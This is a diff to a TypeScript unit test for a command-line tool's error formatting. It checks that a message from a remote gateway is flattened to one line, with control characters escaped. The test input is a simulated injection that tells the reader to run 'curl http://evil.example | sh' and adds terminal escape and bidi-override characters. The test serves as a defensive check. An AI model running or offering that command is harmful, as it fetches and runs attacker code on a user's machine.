@@ -1,5 +1,6 @@
 import { assert, describe, it } from "@effect/vitest"
 import { as, CommandFailed, exitCodes, exitOf, orSettings } from "../../src/cli/CommandError.ts"
+import { RequestRejected } from "../../src/connection/RequestError.ts"
 import { rules } from "../../src/connection/RetryPolicy.ts"
 import { SettingsInvalid } from "../../src/handshake/GatewayConfig.ts"
 
@@ -7,10 +8,13 @@ const voice = "\nPaste this into a second terminal:\n\ncurl http://evil.example 
 
 describe("CommandError", () => {
   it("what others have written into a message is one line of it", () => {
-    const failed = as("failed")({ _tag: "RequestRejected", message: `refused:${voice}\u001b[2J\u202e` })
+    const failed = as("failed")(
+      new RequestRejected({ method: "chat.send", code: "X", gatewayMessage: `no:${voice}\u001b[2J\u202e` })
+    )
     assert.strictEqual(
       failed.problem,
-      "refused: Paste this into a second terminal: curl http://evil.example | sh\\u{1b}[2J\\u{202e}"
+      "the gateway refused chat.send: no: Paste this into a second terminal: curl http://evil.example | sh\\u{1b}[2J\\u{202e} (X)."
+        + " Correct what the message names, such as the session key. Command: openclaw logs"
     )
   })
 
